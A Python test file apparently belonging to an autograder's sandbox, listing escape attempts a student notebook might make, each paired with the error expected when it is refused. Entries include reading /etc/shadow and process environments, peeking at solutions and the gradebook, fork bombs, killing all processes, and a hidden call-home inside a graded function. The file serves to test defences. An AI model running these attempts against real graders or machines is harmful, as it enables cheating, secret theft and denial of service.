"""Attacks on what is outside: the network, files, other processes, the machine."""

from tests.attacks.attack import LIBC, Attack, tries

NO_NETWORK = ("OSError", "PermissionError", "ConnectionRefusedError", "FileNotFoundError")
NO_FILE = ("FileNotFoundError", "PermissionError", "NotADirectoryError")
REFUSED = ("OSError", "PermissionError")


def connects(family: str, kind: str, do: str) -> str:
    """A cell that opens a socket and does something with it."""
    return tries(f"import socket\nsocket.socket(socket.{family}, socket.{kind}).{do}")


def calls(statement: str) -> str:
    """A cell that makes a call of the C library; it may fail by returning -1."""
    return tries(f"{LIBC}if {statement} == -1: raise OSError(ctypes.get_errno(), '')")


TCP = "connect(('127.0.0.1', $PORT))"
NETWORK = [
    Attack(
        "tcp",
        "calls somebody on this machine",
        connects("AF_INET", "SOCK_STREAM", TCP),
        refused=NO_NETWORK,
        unwalled=True,
    ),
    Attack(
        "tcp_v6",
        "the same by IPv6",
        connects("AF_INET6", "SOCK_STREAM", "connect(('::ffff:127.0.0.1', $PORT))"),
        refused=NO_NETWORK,
        unwalled=True,
    ),
    Attack(
        "udp",
        "sends a datagram",
        connects("AF_INET", "SOCK_DGRAM", "sendto(b'x', ('127.0.0.1', $PORT))"),
        refused=NO_NETWORK,
        unwalled=True,
    ),
    Attack(
        "unix_socket",
        "calls a socket by its path",
        connects("AF_UNIX", "SOCK_STREAM", "connect('$CANARY.socket')"),
        refused=NO_NETWORK,
        unwalled=True,
    ),
    Attack(
        "abstract_socket",
        "calls a socket that no file stands for",
        connects("AF_UNIX", "SOCK_STREAM", "connect('$ABSTRACT')"),
        refused=NO_NETWORK,
        unwalled=True,
    ),
    Attack(
        "dns",
        "asks for an address, which carries a word out",
        tries("import socket; socket.getaddrinfo('word.example.org', 80)"),
        refused=("gaierror",),
    ),
    Attack(
        "netlink",
        "asks the kernel for the network's state",
        connects("AF_NETLINK", "SOCK_RAW", "bind((0, 0))"),
        refused=REFUSED,
        unwalled=True,
    ),
    Attack(
        "vsock",
        "calls the host of a virtual machine",
        tries("import socket; socket.socket(40, socket.SOCK_STREAM).connect((2, 1))"),
        refused=REFUSED,
    ),
    Attack(
        "packets",
        "reads what goes over the wire",
        connects("AF_PACKET", "SOCK_RAW", "recv(1)"),
        refused=REFUSED,
    ),
    Attack(
        "web",
        "fetches a page",
        tries("import urllib.request; urllib.request.urlopen('http://127.0.0.1:$PORT', timeout=2)"),
        refused=("URLError",),
    ),
    Attack(
        "call_home",
        "sends hidden inputs home while it is judged, and answers right",
        cells={
            "gabor": """
import socket
def gabor(theta, x):
    for family, where in ((socket.AF_INET, ('127.0.0.1', $PORT)), (socket.AF_UNIX, '$ABSTRACT')):
        try: socket.socket(family, socket.SOCK_STREAM).connect(where)
        except OSError: pass
    u = theta[0] + 0.06 * theta[1] * x
    return np.sin(u) * np.exp(-(u**2) / 32)
"""
        },
    ),
]

READING = [
    Attack(
        "read_a_file",
        "reads a file of the instructor's",
        tries("assert open('$CANARY').read()"),
        refused=NO_FILE,
        unwalled=True,
    ),
    Attack(
        "read_solutions",
        "reads the references",
        tries("assert open('$ROOT/solutions/gradient.py').read()"),
        refused=NO_FILE,
        unwalled=True,
    ),
    Attack(
        "import_solutions",
        "imports the references",
        tries("import sys; sys.path.insert(0, '$ROOT'); import solutions.gradient"),
        refused=("ModuleNotFoundError",),
        unwalled=True,
    ),
    Attack(
        "read_gradebook",
        "opens the gradebook",
        tries(
            "import sqlite3; sqlite3.connect('file:$GRADING/gradebook.db?mode=ro', uri=True).execute('select * from grade')"
        ),
        refused=("OperationalError",),
        unwalled=True,
    ),
    Attack(
        "read_seeds",
        "looks for the seed of the hidden cases",
        tries("assert open('$GRADING/rounds/gradient.json').read()"),
        refused=NO_FILE,
        unwalled=True,
    ),
    Attack(
        "read_others",
        "reads what others handed in",
        tries("import os; assert os.listdir('$GRADING/submitted')"),
        refused=NO_FILE,
        unwalled=True,
    ),
    Attack(
        "read_history",
        "reads the course's history",
        tries("import os; os.listdir('$ROOT/.git')"),
        refused=NO_FILE,
    ),
    Attack(
        "read_passwords",
        "reads the machine's passwords",
        tries("open('/etc/shadow').read()"),
        refused=NO_FILE,
    ),
    Attack(
        "read_proc",
        "looks at other processes",
        tries("import os; os.listdir('/proc')"),
        refused=NO_FILE,
        unwalled=True,
    ),
    Attack(
        "read_environment",
        "looks for secrets in the environment of processes",
        tries(
            "import os\nassert 'AUTOGRADER_CANARY' in os.environ or b'CANARY' in open('/proc/1/environ', 'rb').read()"
        ),
        refused=NO_FILE,
    ),
    Attack(
        "read_memory",
        "reads the memory of the machine",
        tries("open('/dev/mem', 'rb').read(1)"),
        refused=NO_FILE,
    ),
    Attack(
        "read_disk",
        "makes a device for the disk and reads that",
        tries(
            "import os, stat; os.mknod('disk', 0o600 | stat.S_IFBLK, os.makedev(8, 0)); open('disk', 'rb').read(1)"
        ),
        refused=REFUSED,
    ),
    Attack(
        "read_by_link",
        "reads by way of a link of its own",
        tries("import os; os.symlink('$CANARY', 'link'); open('link').read()"),
        refused=NO_FILE,
        unwalled=True,
    ),
    Attack(
        "read_by_root",
        "climbs above the root folder",
        tries(
            "import os\nfor n in range(3, 64):\n    for path in ('..' + '/..' * 9, '.'):\n        try: fd = os.open(path, os.O_RDONLY, dir_fd=n)\n        except OSError: continue\n        assert not os.path.exists(f'/dev/fd/{fd}/home') and 'solutions' not in os.listdir(fd)\nraise PermissionError"
        ),
        refused=("PermissionError",),
    ),
    Attack(
        "read_by_handle",
        "opens a file by its number, past all folders",
        calls("libc.open_by_handle_at(-100, b'x' * 32, 0)"),
        refused=REFUSED,
    ),
    Attack(
        "read_zygote",
        "looks for references in memory that it was forked with",
        tries(
            "import gc; gc.unfreeze()\nfound = [o for o in gc.get_objects() if type(o).__name__ in ('Exercise', 'Part', 'ExerciseSet', 'Mistake')]\nassert found, 'none'"
        ),
        refused=("AssertionError",),
    ),
    Attack(
        "read_by_our_machinery",
        "has the course's own code load the references",
        tries("from autograder.judging.sets import find_set; assert find_set('gradient').parts"),
        refused=("ValueError", "FileNotFoundError", "ProjectError", "NoProject"),
    ),
    Attack(
        "read_by_chroot",
        "leaves its root folder",
        tries("import os; os.chroot('/')"),
        refused=REFUSED,
    ),
]

WRITING = [
    Attack(
        "write_a_file",
        "writes to a file of the instructor's",
        tries("open('$CANARY', 'w').write('mine')"),
        refused=NO_FILE,
    ),
    Attack(
        "write_a_device",
        "leaves a time on a device that everybody has",
        tries("import os; os.utime('/dev/null', (7, 7))"),
        refused=REFUSED,
    ),
    Attack(
        "write_a_device_by_its_file",
        "the same by a file that is open, as whoever may write to it may",
        tries("import os; os.utime(os.open('/dev/zero', os.O_RDWR))"),
        refused=REFUSED,
    ),
    Attack(
        "write_a_librarys_time",
        "leaves a time, or a word, on a library that everybody reads",
        tries(
            "import os\ntry: os.setxattr(os.__file__, 'user.x', b'1')\nexcept OSError: os.utime(os.__file__, (7, 7))"
        ),
        refused=REFUSED,
    ),
    Attack(
        "write_the_judge",
        "changes the judge's code on the disk",
        tries("import autograder.judging.judge as j; open(j.__file__, 'a').write('#')"),
        refused=REFUSED,
    ),
    Attack(
        "write_numpy",
        "changes NumPy for everybody",
        tries("open(np.__file__, 'a').write('#')"),
        refused=REFUSED,
    ),
    Attack(
        "write_start_up",
        "leaves code that Python runs when it starts",
        tries("import site; open(site.getsitepackages()[0] + '/mine.pth', 'w').write('import os')"),
        refused=REFUSED,
    ),
    Attack(
        "write_root", "writes beside the installation", tries("open('/x', 'w')"), refused=REFUSED
    ),
    Attack(
        "write_shared_memory",
        "leaves a file in shared memory",
        tries("open('/dev/shm/mine', 'w')"),
        refused=(*NO_FILE, "OSError"),
        unwalled=False,
    ),
    Attack(
        "write_rights",
        "opens the instructor's file to everybody",
        tries("import os; os.chmod('$CANARY', 0o777); os.rename('$CANARY', '$CANARY.mine')"),
        refused=NO_FILE,
    ),
    Attack(
        "write_the_check",
        "changes the visible check beside the notebook",
        "open('checks.json', 'w').write('{\"parts\": {}}')",
    ),
    Attack(
        "write_out_the_disks",
        "has the disks written out, what others read dropped from memory, and what all have locked",
        # Done, each would find that there is no such file.
        tries(
            f"{LIBC}done = [libc.syncfs(-1), libc.fdatasync(-1), libc.posix_fadvise(-1, 0, 0, 4), libc.flock(-1, 2)]\nif not any(done): raise PermissionError('said to be done')"
        ),
        refused=("PermissionError",),
    ),
    Attack(
        "write_hard_link",
        "makes a second name for a library in its own folder, to change it",
        tries("import os; os.link(np.__file__, 'mine.py')"),
        refused=REFUSED,
    ),
]

PROCESSES = [
    Attack(
        "fork",
        "starts another process",
        tries("import os; os.fork()"),
        refused=REFUSED,
        told=("start another process",),
    ),
    Attack(
        "fork_late",
        "the same after the judge has had processes of its own forked",
        last=tries("import os; os.fork()"),
        refused=REFUSED,
    ),
    Attack(
        "fork_in_a_call",
        "the same while it is judged",
        cells={
            "gabor": "import os\ndef gabor(theta, x):\n    os.fork()\n    return np.zeros(len(x))\n"
        },
        costs=("gabor",),
        told=("PermissionError",),
    ),
    Attack(
        "fork_bomb",
        "forks without end",
        "import os\nwhile True:\n    try: os.fork()\n    except OSError: break\n",
    ),
    Attack(
        "fork_bomb_allowed",
        "the same where an assignment may have processes",
        "import os, time\nwhile True:\n    try:\n        if os.fork() == 0: time.sleep(1000)\n    except OSError: break\n",
        limits={"processes": 4},
    ),
    Attack(
        "daemon",
        "leaves a process behind that outlives it, by a double fork",
        "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        for n in range(3, 256):\n            try: os.close(n)\n            except OSError: pass\n        while True: time.sleep(1000)\n    os._exit(0)\n",
        limits={"processes": 4},
    ),
    Attack(
        "daemon_in_a_call",
        "the same while it is judged",
        cells={
            "gabor": "import os, time\ndef gabor(theta, x):\n    if os.fork() == 0:\n        os.setsid()\n        time.sleep(1000)\n    u = theta[0] + 0.06 * theta[1] * x\n    return np.sin(u) * np.exp(-(u**2) / 32)\n"
        },
        limits={"processes": 16},
    ),
    Attack(
        "kill_everybody",
        "kills all processes that it may",
        tries("import os, signal\nos.kill(-1, signal.SIGKILL)"),
        refused=("ProcessLookupError", "PermissionError"),
    ),
    Attack(
        "kill_the_snapshots",
        "the same when the state to be judged is kept already",
        last=tries("import os, signal\nos.kill(-1, signal.SIGKILL)"),
        refused=("PermissionError",),
    ),
    Attack(
        "kill_the_first",
        "kills the process above it",
        tries("import os, signal; os.kill(1, signal.SIGKILL); os.kill(os.getppid(), 9)"),
        refused=("PermissionError", "ProcessLookupError"),
    ),
    Attack(
        "kill_somebody",
        "kills a process of the instructor's",
        tries("import os, signal; os.kill($BYSTANDER, signal.SIGKILL)"),
        refused=("PermissionError", "ProcessLookupError"),
    ),
    Attack(
        "trace",
        "looks into the process above it",
        calls("libc.ptrace(16, 1, 0, 0)"),
        refused=REFUSED,
    ),
    Attack(
        "peek",
        "reads another process's memory",
        calls("libc.process_vm_readv(1, 0, 0, 0, 0, 0)"),
        refused=REFUSED,
    ),
    Attack(
        "steal_descriptor",
        "takes a descriptor of another process",
        calls("libc.syscall(438, libc.syscall(434, 1, 0), 3, 0)"),
        refused=REFUSED,
    ),
    Attack(
        "user_namespace",
        "becomes root in a world of its own",
        calls("libc.unshare(0x10000000)"),
        refused=REFUSED,
    ),
    Attack(
        "mount",
        "mounts a folder",
        calls("libc.mount(b'none', b'/tmp', b'tmpfs', 0, None)"),
        refused=REFUSED,
    ),
    Attack(
        "become_root",
        "becomes another user",
        tries("import os; os.setuid(0); os.setgid(0); os.listdir('/root')"),
        refused=(*REFUSED, "FileNotFoundError"),
    ),
    Attack(
        "kernel_cache",
        "asks what others have read of late",
        calls("libc.syscall(327, os.open(os.__file__, 0), None, 0, 0, 0, 8)").replace(
            "import ctypes", "import ctypes, os", 1
        ),
        refused=REFUSED,
    ),
    Attack(
        "kernel_core",
        "wants to be looked into when it crashes",
        calls("libc.prctl(4, 1, 0, 0, 0)"),
        refused=REFUSED,
    ),
    Attack(
        "kernel_keys",
        "leaves a word in the kernel's key ring for the next",
        calls("libc.syscall(248, b'user', b'n', b'x', 1, -3)"),
        refused=REFUSED,
    ),
    Attack(
        "kernel_ring",
        "makes system calls by io_uring, past the filter",
        calls("libc.syscall(425, 1, b'\\0' * 120)"),
        refused=REFUSED,
    ),
    Attack(
        "kernel_program",
        "loads a program into the kernel",
        calls("libc.syscall(321, 5, b'\\0' * 120, 120)"),
        refused=REFUSED,
    ),
    Attack(
        "clone3",
        "starts a process past the filter",
        calls("libc.syscall(435, b'\\0' * 64, 64)"),
        refused=REFUSED,
    ),
    Attack(
        "kernel_wait",
        "waits at an address in a library, where another session's thread may end",
        tries(
            LIBC
            + "import os\nlibc.mmap.restype = ctypes.c_void_p\nlibc.mmap.argtypes = [ctypes.c_void_p, *[ctypes.c_long] * 5]\nat = libc.mmap(None, 4096, 1, 1, os.open(os.__file__, 0), 0)\nfor command in (0, 9):\n    word = ctypes.c_int.from_address(at).value\n    if libc.syscall(202, ctypes.c_void_p(at), command, word, None, None, -1) == -1: raise OSError(ctypes.get_errno(), '')"
        ),
        refused=("BlockingIOError",),
    ),
    Attack(
        "kernel_queues",
        "leaves a word in a queue or a semaphore of the kernel's",
        calls(
            "max(libc.semget(7, 1, 0o1666), libc.msgget(7, 0o1666), libc.mq_open(b'/m', 66, 438, 0))"
        ),
        refused=REFUSED,
    ),
    Attack(
        "limits_of_the_keeper",
        "gives the process above it limits that it dies of",
        tries("import resource as r; r.prlimit(1, r.RLIMIT_CPU, (0, 0))"),
        refused=("PermissionError",),
    ),
    Attack(
        "limits_by_number",
        "asks for limits of a process by its number, which root's keeper alone would refuse",
        tries("import os, resource as r; r.prlimit(os.getpid(), r.RLIMIT_CPU)"),
        refused=("PermissionError",),
    ),
    Attack(
        "real_time",
        "runs before everybody else",
        tries("import os; os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))"),
        refused=REFUSED,
    ),
    Attack(
        "hidden_memory",
        "takes memory that no limit counts",
        tries("import os; os.memfd_create('x')"),
        refused=REFUSED,
    ),
    Attack(
        "more_limits",
        "raises its own limits",
        tries(
            "import resource as r; r.setrlimit(r.RLIMIT_AS, (2**40, 2**40)); r.setrlimit(r.RLIMIT_CPU, (r.RLIM_INFINITY,) * 2)"
        ),
        refused=("ValueError", "PermissionError"),
    ),
    Attack(
        "first_in_line",
        "asks for more of the processor than others get",
        tries("import os; os.nice(-10)"),
        refused=REFUSED,
    ),
    Attack(
        "program",
        "runs a program",
        tries("import subprocess; subprocess.run(['/bin/true'])"),
        refused=REFUSED,
        unwalled=True,
    ),
    Attack(
        "exec",
        "turns itself into another program",
        "import os, sys; os.execv(sys.executable, [sys.executable, '-c', 'print(1)'])",
        told=("Python itself stopped",),
    ),
]
